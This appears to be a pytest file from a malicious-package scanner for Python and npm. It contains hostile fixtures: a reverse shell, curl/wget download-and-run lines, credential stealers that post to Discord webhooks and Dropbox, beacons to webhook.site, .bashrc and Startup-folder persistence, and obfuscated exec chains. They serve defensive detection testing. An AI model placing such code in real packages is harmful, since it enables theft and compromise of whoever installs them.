def test_install_beacon_fires_in_npm_postinstall(tmp_path: Path, scanner: Scanner) -> None:
    path = write_npm(tmp_path, {"install.js": BEACON_NPM_SCRIPT}, scripts={"postinstall": "node install.js"})
    assert_fires(scan(path, scanner), "install-beacon", Verdict.MALICIOUS, file_endswith="install.js")


def test_install_beacon_benign_library(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/telemetry.py": TELEMETRY_LIBRARY}), scanner)
    assert_quiet(result, "install-beacon")


# Dependency-confusion probe: identity hex-encoded into DNS labels, looked up by `ping`.
DNS_PING_BEACON = """import getpass
import os
import socket

data = "%s;%s" % (socket.gethostname(), getpass.getuser())
encoded = ""
for c in data[:30]:
    encoded += "%02x" % ord(c)
os.system("ping -c 1 %s.probe.example.invalid" % encoded)
"""
PING_HEALTHCHECK = """import os
import socket

host = socket.gethostname()
os.system("logger started on %s" % host)
os.system("ping -c 1 127.0.0.1")
"""


def test_install_beacon_fires_for_identity_in_ping_command(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: DNS_PING_BEACON}), scanner)
    found = assert_fires(result, "install-beacon", Verdict.MALICIOUS, severity=Severity.CRITICAL)
    assert any(f.line == 9 and "ping" in f.reason for f in found), describe(result)


def test_install_beacon_benign_ping_without_identity(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: PING_HEALTHCHECK}), scanner)
    assert_quiet(result, "install-beacon", not_verdict=Verdict.MALICIOUS)


CATCHER_CALLED_BEACON = """import os
import socket

import requests


def add(x, y):
    requests.get("https://eo000000.x.pipedream.net/", params={"h": socket.gethostname(), "c": os.getcwd()})
    return x + y
"""
OWN_SERVICE_CALLED_BEACON = """import socket

import requests


def register(server):
    return requests.post(server + "/agents", json={"host": socket.gethostname()})
"""


def test_install_beacon_fires_for_catcher_when_called(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/calc.py": CATCHER_CALLED_BEACON}), scanner)
    assert_fires(result, "install-beacon", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_install_beacon_benign_agent_registration(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/agent.py": OWN_SERVICE_CALLED_BEACON}), scanner)
    assert_quiet(result, "install-beacon")


SHELL_CODE = """import os, socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("127.0.0.1", 9))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])
"""
WRITES_PROGRAM_SETUP = f"""import os
import subprocess
from setuptools import setup
from setuptools.command.install import install

CODE = {SHELL_CODE!r}


class PostInstall(install):
    def run(self):
        install.run(self)
        with open("helper.py", "w") as handle:
            handle.write(CODE)
        subprocess.Popen(["python3", os.path.expanduser("~/helper.py")])


setup(name="fixturepkg", version="1.0.0", cmdclass={{"install": PostInstall}})
"""
WRITES_VERSION_SETUP = """from setuptools import setup

TEMPLATE = "import os\\n__version__ = '1.0.0'\\n"
with open("fixturepkg/_version.py", "w") as handle:
    handle.write(TEMPLATE)
setup(name="fixturepkg", version="1.0.0")
"""


def test_reverse_shell_fires_in_program_written_at_install(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=WRITES_PROGRAM_SETUP), scanner)
    assert_fires(result, "reverse-shell", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_written_version_module_is_benign(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=WRITES_VERSION_SETUP), scanner)
    assert_quiet(result, "reverse-shell", not_verdict=Verdict.SUSPICIOUS)


CURL_UPLOAD_SETUP = setup_py('os.system("curl -F a=@/etc/hostname 192.0.2.1:9")\n', imports="import os\n")


def test_install_process_fires_for_curl_upload(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=CURL_UPLOAD_SETUP), scanner)
    assert_fires(result, "install-process", Verdict.MALICIOUS, severity=Severity.CRITICAL)


SABOTAGE_INIT = 'import os\n\nos.system("shutdown /s /t 0")\n'
LEXER_KEYWORDS = """KEYWORDS = ["halt", "reboot", "poweroff", "shutdown"]


def shutdown_server(proc):
    proc.terminate()
"""


TEMPFILE_DROPPER_SETUP = setup_py(
    "import subprocess\n"
    "import tempfile\n"
    "import urllib.request\n"
    'with urllib.request.urlopen("http://127.0.0.1:9/tool") as response:\n'
    "    with tempfile.NamedTemporaryFile(delete=False) as handle:\n"
    "        handle.write(response.read())\n"
    "        program = handle.name\n"
    "subprocess.call([program])\n"
)
EXE_FETCHER_LIBRARY = """import subprocess

import requests


def fetch(url, path):
    with open(path, "wb") as handle:
        handle.write(requests.get(url).content)


def start(path):
    subprocess.Popen(path)


def main():
    fetch("http://127.0.0.1:9/tool.exe", "tool.exe")
    start("tool.exe")
"""
INSTALLER_FETCHER_LIBRARY = """import os
import sys
import tempfile
from urllib.request import urlopen


def bootstrap(url):
    with tempfile.NamedTemporaryFile(suffix=".py") as handle:
        handle.write(urlopen(url).read())
        handle.flush()
        return os.system(f"{sys.executable} {handle.name} --user")
"""


def test_download_exec_fires_through_temporary_file(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=TEMPFILE_DROPPER_SETUP), scanner)
    assert_fires(result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_download_exec_fires_for_windows_program_when_called(tmp_path: Path, scanner: Scanner) -> None:
    # A Windows program fetched from a hard-coded address and started: a dropper even if only called.
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/util.py": EXE_FETCHER_LIBRARY}), scanner)
    assert_fires(result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_download_exec_installer_fetch_when_called_is_not_malicious(tmp_path: Path, scanner: Scanner) -> None:
    # get-pip.py style: fetch an installer from its vendor and run it, only when asked to.
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/boot.py": INSTALLER_FETCHER_LIBRARY}), scanner)
    assert_quiet(result, "download-exec", not_verdict=Verdict.MALICIOUS, below=Severity.CRITICAL)


DECODED_DROPPER_LIBRARY = """import base64
import subprocess

BLOB = "IyEvYmluL3NoCmVjaG8gaW5lcnQK"


def deploy(path):
    data = base64.b64decode(BLOB)
    with open(path, "wb") as handle:
        handle.write(data)
    subprocess.Popen([path])
"""
SAME_NAME_IN_TWO_FUNCTIONS = """import base64
import subprocess


def show(token):
    data = base64.b64decode(token)
    print(data)


def build(template_path, out_path):
    with open(template_path) as source:
        data = source.read()
    with open(out_path, "w") as handle:
        handle.write(data)
    subprocess.run(["sh", out_path])
"""


def test_download_exec_fires_for_decoded_program_written_and_run(tmp_path: Path, scanner: Scanner) -> None:
    # A program kept encoded in the package, decoded, saved and started by the same function.
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/util.py": DECODED_DROPPER_LIBRARY}), scanner)
    assert_fires(result, "download-exec", Verdict.SUSPICIOUS, severity=Severity.HIGH)


def test_download_exec_quiet_for_same_spelt_variables_of_different_functions(
    tmp_path: Path, scanner: Scanner
) -> None:
    # `data` holds decoded text in one function and a template's text in another (a build script
    # rendered and run): Python keeps them apart, and so must the analysis.
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/build.py": SAME_NAME_IN_TWO_FUNCTIONS}), scanner)
    assert_quiet(result, "download-exec")


FOLDED_IDENTIFIERS = """import os

𝙩𝙖𝙧𝙜𝙚𝙩 = os.path.join("a", "b")
print(𝙩𝙖𝙧𝙜𝙚𝙩)
"""
GREEK_IDENTIFIERS = """import math

α = 0.5
λ = math.log(2) / α
"""


def test_obfuscation_fires_for_identifiers_python_folds_to_ascii(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: FOLDED_IDENTIFIERS}), scanner)
    found = assert_fires(result, "obfuscation", Verdict.SUSPICIOUS, severity=Severity.HIGH)
    assert any("'target'" in f.reason for f in found), describe(result)


def test_obfuscation_benign_greek_identifiers(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: GREEK_IDENTIFIERS}), scanner)
    assert_quiet(result, "obfuscation", below=Severity.MEDIUM)


XOR_LOADER_LIBRARY = """import threading

run = exec


def _show():
    blob = "\\x1d\\x00\\x1e\\x1d"
    key = "1234"
    text = ""
    for i in range(len(blob)):
        text += chr(ord(blob[i]) ^ ord(key[i % len(key)]))
    run(text)


def show():
    threading.Thread(target=_show).start()
"""
XOR_MASK_MODULE = """def mask(data, key):
    return "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(data))
"""
EVAL_MODULE = """def evaluate(expression, env):
    return eval(compile(expression, "<expr>", "eval"), env)
"""


def test_decode_exec_fires_for_xor_decrypted_exec(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/colors.py": XOR_LOADER_LIBRARY}), scanner)
    assert_fires(result, "decode-exec", Verdict.SUSPICIOUS, severity=Severity.HIGH)


def test_decode_exec_benign_xor_and_unrelated_eval_in_separate_files(
    tmp_path: Path, scanner: Scanner
) -> None:
    files = {f"{DEFAULT_NAME}/mask.py": XOR_MASK_MODULE, f"{DEFAULT_NAME}/expr.py": EVAL_MODULE}
    result = scan(write_sdist(tmp_path, files), scanner)
    assert_quiet(result, "decode-exec", not_verdict=Verdict.SUSPICIOUS)


SHELL_DROPPER_SETUP = setup_py(
    'script = "curl -s http://192.0.2.1/x -o /tmp/x; chmod +x /tmp/x; /tmp/x"\n'
    'with open("/tmp/start.sh", "w") as handle:\n'
    "    handle.write(script)\n"
    'os.system("bash /tmp/start.sh")\n',
    imports="import os\n",
)


def test_install_process_fires_for_written_shell_dropper(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=SHELL_DROPPER_SETUP), scanner)
    assert_fires(result, "install-process", Verdict.MALICIOUS, severity=Severity.CRITICAL)


DIRECT_URL_INIT = (
    "import os\nimport sys\n\n"
    'os.system(f"{sys.executable} -m pip install https://files.example.invalid/pkgs/colorama-0.4.6.tar.gz")\n'
)
INDEX_INSTALL_HELPER = """import subprocess
import sys


def ensure(name):
    subprocess.check_call([sys.executable, "-m", "pip", "install", name])
"""


def test_pip_install_runtime_fires_for_direct_url_at_import(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: DIRECT_URL_INIT}), scanner)
    assert_fires(result, "pip-install-runtime", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_pip_install_runtime_benign_helper_when_called(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/deps.py": INDEX_INSTALL_HELPER}), scanner)
    assert_quiet(result, "pip-install-runtime", not_verdict=Verdict.SUSPICIOUS)


RUNS_MODULE_SETUP = """import subprocess
import sys
from setuptools import setup
from setuptools.command.install import install

NAME = "fixture_test_kit"


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.call([sys.executable, "-m", f"{NAME}.probe"])


setup(name=NAME, version="1.0.0", cmdclass={"install": PostInstall})
"""
PROBE_MODULE = """import socket

import requests


def report():
    host = socket.gethostname()
    requests.post("https://webhook.site/00000000-0000-0000-0000-000000000000", json={"h": host})


if __name__ == "__main__":
    report()
"""


def test_install_beacon_fires_in_module_setup_runs_even_with_test_in_its_name(
    tmp_path: Path, scanner: Scanner
) -> None:
    # `fixture_test_kit` is a package, not a test folder: a dev-sounding name must not hide a payload.
    result = scan(
        write_sdist(tmp_path, {"fixture_test_kit/probe.py": PROBE_MODULE}, setup_py=RUNS_MODULE_SETUP),
        scanner,
    )
    assert_fires(result, "install-beacon", Verdict.MALICIOUS, file_endswith="fixture_test_kit/probe.py")


IMPORT_TIME_BEACON = """import socket
import urllib.request

urllib.request.urlopen("https://webhook.site/00000000?h=" + socket.gethostname())
"""


def test_install_beacon_fires_at_import_of_package_named_like_tests(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {"formatter_test_kit/__init__.py": IMPORT_TIME_BEACON}), scanner)
    assert_fires(result, "install-beacon", Verdict.MALICIOUS, file_endswith="formatter_test_kit/__init__.py")


def test_real_test_folder_stays_dev(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {"tests/test_probe.py": PROBE_MODULE}), scanner)
    assert result.verdict is Verdict.CLEAN, describe(result)


HIDDEN_ENDPOINT_LIBRARY = f"""import base64

import requests


def lookup():
    address = base64.b64decode("{b64("https://collector.example.invalid/api")}").decode()
    return requests.get(address).json()
"""
CLOUD_ID_LIBRARY = """import base64

import requests


def connect(cloud_id):
    host = base64.b64decode(cloud_id.split(":")[1]).decode().split("$")[0]
    return requests.get("https://" + host)
"""


def test_exfil_sink_fires_for_address_hidden_by_encoding(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/api.py": HIDDEN_ENDPOINT_LIBRARY}), scanner)
    found = assert_fires(result, "exfil-sink", Verdict.SUSPICIOUS, severity=Severity.HIGH)
    assert any("collector.example.invalid" in f.reason for f in found), describe(result)


def test_exfil_sink_benign_address_decoded_from_configuration(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/cloud.py": CLOUD_ID_LIBRARY}), scanner)
    assert_quiet(result, "exfil-sink")


def escaped(text: str) -> str:
    """`text` as \\xNN escapes inside a Python string literal."""
    return "".join(f"\\x{ord(c):02x}" for c in text)


CHAIN_PAYLOAD = b64("import os\nos.system('curl -s http://127.0.0.1:9/x.sh | sh')\n")
CHAIN_HALF = len(CHAIN_PAYLOAD) // 2
ESCAPED_EVAL_CHAIN = f"""import base64
import codecs

first = "{CHAIN_PAYLOAD[:CHAIN_HALF]}"
second = "{codecs.encode(CHAIN_PAYLOAD[CHAIN_HALF:], "rot13")}"
key = "{escaped("rot13")}"
blob = eval("{escaped("first")}") + eval("{escaped("codecs.decode(second, key)")}")
eval(compile(base64.b64decode(eval("{escaped("blob")}")), "<string>", "exec"))
"""


def test_decode_exec_fires_through_escaped_eval_chain(tmp_path: Path, scanner: Scanner) -> None:
    # Names spelt as escaped strings and evaluated, rot13 halves, then base64: decoded statically.
    result = scan(write_sdist(tmp_path, {INIT: ESCAPED_EVAL_CHAIN}), scanner)
    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)


COMMENTED_THEN_LIVE = f"""import base64
# exec(base64.b64decode("{b64(INERT_CODE)}"))
exec(base64.b64decode("{b64(INERT_CODE)}"))
"""


def test_decode_exec_text_rule_sees_past_a_commented_copy(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: COMMENTED_THEN_LIVE}), scanner)
    found = assert_fires(result, "decode-exec", Verdict.MALICIOUS)
    assert any(f.line == 3 for f in found), describe(result)


IMPLANT_LIBRARY = """import os
import urllib.request


def install():
    data = urllib.request.urlopen("http://192.0.2.1/out").read()
    with open(os.path.expanduser("~/.drv"), "wb") as handle:
        handle.write(data)
    with open(os.path.expanduser("~/.bashrc"), "a") as rc:
        rc.write("~/.drv &")
"""
SHELL_CONFIG_LIBRARY = """import os

RC_FILES = [".bashrc", ".zshrc", ".profile"]


def shell_config():
    return [os.path.expanduser("~/" + name) for name in RC_FILES]
"""


def test_persistence_fires_next_to_raw_ip_download_when_called(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/pr.py": IMPLANT_LIBRARY}), scanner)
    assert_fires(result, "persistence", Verdict.SUSPICIOUS, severity=Severity.HIGH)


def test_persistence_benign_rc_file_names(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/cfg.py": SHELL_CONFIG_LIBRARY}), scanner)
    assert_quiet(result, "persistence", below=Severity.MEDIUM)


GAME_SESSION_STEALER = """import os

import requests

HOOK = "https://discord.com/api/webhooks/000/fixture"


def grab():
    path = os.path.join(os.environ["APPDATA"], ".minecraft", "launcher_accounts.json")
    with open(path, "rb") as handle:
        requests.post(HOOK, files={"f": handle})
"""
CLOUD_DROP_STEALER = f"""import os

import dropbox

TOKEN = "sl.{"A" * 130}"


def backup():
    client = dropbox.Dropbox(TOKEN)
    local_state = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Local State")
    with open(local_state, "rb") as handle:
        key = handle.read()  # holds the "encrypted_key" Chrome seals cookies with
        client.files_upload(key, "/x")
"""


def test_stealer_fires_for_game_sessions(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/mc.py": GAME_SESSION_STEALER}), scanner)
    assert_fires(result, "stealer", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_stealer_fires_for_browser_secrets_sent_to_cloud_drop(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/bk.py": CLOUD_DROP_STEALER}), scanner)
    assert_fires(result, "stealer", Verdict.MALICIOUS, severity=Severity.CRITICAL)


BOT_TOKEN_LIBRARY = """import os

import requests

BOT_TOKEN = "1234567890:AAFixtureFixtureFixtureFixtureFixtu"


def share(path, chat):
    with open(path, "rb") as handle:
        requests.post(f"https://api.telegram.org/bot{BOT_TOKEN}/sendDocument", files={"d": handle})
"""
BOT_CLIENT_LIBRARY = """import requests


def send(token, chat, text):
    url = f"https://api.telegram.org/bot{token}/sendMessage"
    return requests.post(url, data={"chat_id": chat, "text": text})
"""


def test_exfil_sink_fires_for_baked_in_bot_token(tmp_path: Path, scanner: Scanner) -> None:
    """The token alone is suspicious; the file contents the helper uploads to that baked-in channel
    complete the chain (exfil-flow): whatever the caller shares, the package's author receives."""
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/share.py": BOT_TOKEN_LIBRARY}), scanner)
    assert_fires(result, "exfil-sink", Verdict.MALICIOUS, severity=Severity.HIGH)
    assert_fires(result, "exfil-flow", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_exfil_sink_benign_bot_client_taking_token(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/bot.py": BOT_CLIENT_LIBRARY}), scanner)
    assert_quiet(result, "exfil-sink", below=Severity.HIGH)


ENCODED_UPLOAD_LIBRARY = f"""import base64

import aiohttp

TARGET = "{b64("https://collector.example.invalid/upload")}"


async def upload(path):
    session = aiohttp.ClientSession()
    await session.post(base64.b64decode(TARGET).decode(), data=open(path, "rb"))
"""


def test_exfil_sink_fires_for_encoded_address_on_client_object(tmp_path: Path, scanner: Scanner) -> None:
    # 4 KB of padding keeps the module above the size where everything gets the full analysis.
    padding = "\n".join(f"# filler line {i} " + "x" * 60 for i in range(60))
    files = {f"{DEFAULT_NAME}/up.py": ENCODED_UPLOAD_LIBRARY + padding}
    result = scan(write_sdist(tmp_path, files), scanner)
    found = assert_fires(result, "exfil-sink", Verdict.SUSPICIOUS, severity=Severity.HIGH)
    assert any("collector.example.invalid" in f.reason for f in found), describe(result)


STARTFILE_DROPPER_INIT = """from os import environ, startfile

CODE = "print('inert fixture payload')"
with open(environ["APPDATA"] + "\\\\helper.pyw", "w") as handle:
    handle.write(CODE)
startfile(environ["APPDATA"] + "\\\\helper.pyw")
"""


def test_download_exec_fires_for_program_written_and_started_at_import(
    tmp_path: Path, scanner: Scanner
) -> None:
    result = scan(write_sdist(tmp_path, {INIT: STARTFILE_DROPPER_INIT}), scanner)
    assert_fires(result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)


SPELLED_BUILTINS_INIT = """globe = globals
_ = "".join
ns = globe()[_([chr(c) for c in [95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]])]
"""
GREETING_FROM_CODES = """GREETING = "".join(chr(c) for c in [104, 101, 108, 108, 111])
"""


def test_obfuscation_fires_for_builtins_spelt_from_codes(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: SPELLED_BUILTINS_INIT}), scanner)
    found = assert_fires(result, "obfuscation", Verdict.SUSPICIOUS, severity=Severity.HIGH)
    assert any("__builtins__" in f.reason for f in found), describe(result)


def test_obfuscation_benign_text_from_codes(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: GREETING_FROM_CODES}), scanner)
    assert_quiet(result, "obfuscation", below=Severity.MEDIUM)


def test_stdlib_dependency_fires(tmp_path: Path, scanner: Scanner) -> None:
    files = {f"{DEFAULT_NAME}.egg-info/requires.txt": "requests\nshutil\nzipfile>=0.1\n\n[dev]\npytest\n"}
    result = scan(write_sdist(tmp_path, files), scanner)
    found = assert_fires(result, "stdlib-dependency", Verdict.SUSPICIOUS, severity=Severity.HIGH)
    assert found[0].snippet == "shutil, zipfile", describe(result)


def test_stdlib_dependency_benign_backports(tmp_path: Path, scanner: Scanner) -> None:
    files = {f"{DEFAULT_NAME}.egg-info/requires.txt": "typing\ndataclasses\nenum34\nfutures\n\n[x]\nos\n"}
    result = scan(write_sdist(tmp_path, files), scanner)
    assert_quiet(result, "stdlib-dependency")


CURL_UPLOAD_LIBRARY = """import os


def backup(folder):
    os.system(f"zip -r /tmp/b.zip {folder}")
    os.system('curl -k -F "file=@/tmp/b.zip" "https://192.0.2.1/api/upload"')
"""
CURL_UPLOAD_OWN_SERVER = """import os


def publish(path, server):
    os.system(f'curl -F "file=@{path}" {server}/upload')
"""


def test_exfil_sink_fires_for_curl_upload_to_bare_ip(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/bk.py": CURL_UPLOAD_LIBRARY}), scanner)
    assert_fires(result, "exfil-sink", Verdict.SUSPICIOUS, severity=Severity.HIGH)


def test_exfil_sink_benign_curl_upload_to_configured_server(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/pub.py": CURL_UPLOAD_OWN_SERVER}), scanner)
    assert_quiet(result, "exfil-sink", below=Severity.HIGH)


RC_IMPLANT_TEST_MODULE = """import os


def reset_modules():
    rc = os.path.expanduser("~/.bashrc")
    with open(rc, "a") as handle:
        handle.write("nohup sh -c 'wget -q http://127.0.0.1:9/p -O /tmp/p; sh /tmp/p' &")
"""
RC_IMPORTER = "from .tests import helpers\n\n\ndef init():\n    helpers.reset_modules()\n"
RC_PATH_EXPORT = """import os


def add_to_path(folder):
    with open(os.path.expanduser("~/.bashrc"), "a") as handle:
        handle.write(f"export PATH={folder}:$PATH")
"""


def test_persistence_fires_for_download_appended_to_rc_from_imported_test_module(
    tmp_path: Path, scanner: Scanner
) -> None:
    # The payload sits under tests/, but library code imports it: it is library code.
    files = {
        f"{DEFAULT_NAME}/tests/helpers.py": RC_IMPLANT_TEST_MODULE,
        f"{DEFAULT_NAME}/colors.py": RC_IMPORTER,
    }
    result = scan(write_sdist(tmp_path, files), scanner)
    assert_fires(
        result, "persistence", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith="tests/helpers.py"
    )


def test_persistence_benign_path_export(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/setup_env.py": RC_PATH_EXPORT}), scanner)
    assert_quiet(result, "persistence", not_verdict=Verdict.SUSPICIOUS, below=Severity.HIGH)


HIDDEN_RC_APPEND_SETUP = setup_py(
    'hidden = "".join(chr(ord(c) - 1) for c in "fdip!gjyuvsf")\n'
    'home = "".join(chr(x) for x in [104, 111, 109, 101])\n'
    'profile = "".join(chr(x) for x in [46, 112, 114, 111, 102, 105, 108, 101])\n'
    'with open(f"/{home}/user/{profile}", "a") as handle:\n'
    "    handle.write(hidden)\n",
)
PLAIN_RC_APPEND_SETUP = setup_py(
    'with open(os.path.expanduser("~/.profile"), "a") as handle:\n'
    '    handle.write("export PATH=$HOME/.local/bin:$PATH")\n',
    imports="import os\n",
)


def test_persistence_fires_for_hidden_text_appended_to_login_script(tmp_path: Path, scanner: Scanner) -> None:
    # a login script holds plain commands; text that must be decoded first is hiding something
    result = scan(write_sdist(tmp_path, setup_py=HIDDEN_RC_APPEND_SETUP), scanner)
    assert_fires(
        result, "persistence", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith="setup.py"
    )


def test_persistence_benign_plain_path_export_at_install(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=PLAIN_RC_APPEND_SETUP), scanner)
    assert_quiet(result, "persistence", not_verdict=Verdict.MALICIOUS, below=Severity.CRITICAL)


STARTUP_FOLDER_DROPPER = """import os

import requests


def init():
    user = f"C:\\\\Users\\\\{os.getlogin()}\\\\AppData\\\\Roaming"
    folder = user + "\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup"
    with open(folder + "\\\\startup.py", "wb") as handle:
        handle.write(requests.get("http://127.0.0.1:9/main.py").content)
"""


def test_persistence_fires_for_download_saved_into_startup_folder(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/nuke.py": STARTUP_FOLDER_DROPPER}), scanner)
    assert_fires(result, "persistence", Verdict.MALICIOUS, severity=Severity.CRITICAL)


ENCODED_URL_CONSTANT = f"""DOCS = "{b64("https://docs.example.invalid/guide")}"
"""


def test_encoded_url_without_requests_is_only_noted(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/links.py": ENCODED_URL_CONSTANT}), scanner)
    assert_quiet(result, "exfil-sink")
    assert_quiet(result, "obfuscation", below=Severity.HIGH)


FULLWIDTH_DOCSTRING = '''def width(text):
    """Examples:

    ＫＡＤＯＫＡＷＡ  ┆ KADOKAWA
    """
    return len(text)
'''


def test_obfuscation_benign_fullwidth_text_in_docstring(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: FULLWIDTH_DOCSTRING}), scanner)
    assert_quiet(result, "obfuscation", below=Severity.MEDIUM)


def test_sabotage_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: SABOTAGE_INIT}), scanner)
    assert_fires(result, "sabotage", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)


def test_sabotage_benign_keyword_list(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: LEXER_KEYWORDS}), scanner)
    assert_quiet(result, "sabotage")


ENCODED_PS = "SQBuAHYAbwBrAGUALQBOAG8AdABoAGkAbgBnAA=="  # UTF-16LE "Invoke-Nothing"
POWERSHELL_SETUP = setup_py(
    f'subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand {ENCODED_PS}", shell=True)\n',
    imports="import subprocess\n",
)
GIT_DESCRIBE_SETUP = setup_py(
    'subprocess.run(["git", "describe", "--tags"], check=False)\n', imports="import subprocess\n"
)


def test_install_process_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=POWERSHELL_SETUP), scanner)
    assert_fires(
        result, "install-process", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith="setup.py"
    )


def test_install_process_fires_in_npm_script(tmp_path: Path, scanner: Scanner) -> None:
    path = write_npm(tmp_path, scripts={"postinstall": "curl -s http://localhost:9/x.sh | sh"})
    assert_fires(
        scan(path, scanner),
        "install-process",
        Verdict.MALICIOUS,
        severity=Severity.CRITICAL,
        file_endswith="package.json",
    )


@pytest.mark.parametrize("kind", ["setup-git-describe", "npm-node-gyp", "npm-test-script"], ids=str)
def test_install_process_benign(tmp_path: Path, scanner: Scanner, kind: str) -> None:
    if kind == "setup-git-describe":
        path = write_sdist(tmp_path, setup_py=GIT_DESCRIBE_SETUP)
    elif kind == "npm-node-gyp":
        path = write_npm(tmp_path, scripts={"install": "node-gyp rebuild"})
    else:
        path = write_npm(tmp_path, scripts={"test": "node test.js", "build": "tsc"})
    assert_quiet(scan(path, scanner), "install-process", below=Severity.MEDIUM)


LOCAL_FETCH_SETUP = setup_py(
    'urllib.request.urlopen("http://localhost:9/version")\n', imports="import urllib.request\n"
)
FETCH_LIBRARY = """import urllib.request


def fetch(url):
    return urllib.request.urlopen(url).read()
"""


def test_install_network_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=LOCAL_FETCH_SETUP), scanner)
    assert_fires(result, "install-network", Verdict.CLEAN, severity=Severity.MEDIUM, file_endswith="setup.py")


def test_install_network_benign_library(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/client.py": FETCH_LIBRARY}), scanner)
    assert_quiet(result, "install-network")


PIP_SETUP = setup_py(
    'subprocess.check_call([sys.executable, "-m", "pip", "install", "fixture-helper-dep"])\n',
    imports="import subprocess\nimport sys\n",
)
PIP_MAIN_SETUP = setup_py('pip.main(["install", "fixture-helper-dep"])\n', imports="import pip\n")


@pytest.mark.parametrize("source", [PIP_SETUP, PIP_MAIN_SETUP], ids=["subprocess", "pip-main"])
def test_pip_install_runtime_fires(tmp_path: Path, scanner: Scanner, source: str) -> None:
    result = scan(write_sdist(tmp_path, setup_py=source), scanner)
    found = hits(result, "pip-install-runtime")
    assert found and all(f.file.endswith("setup.py") for f in found), describe(result)
    assert result.verdict.rank >= Verdict.SUSPICIOUS.rank, describe(result)


@pytest.mark.parametrize(
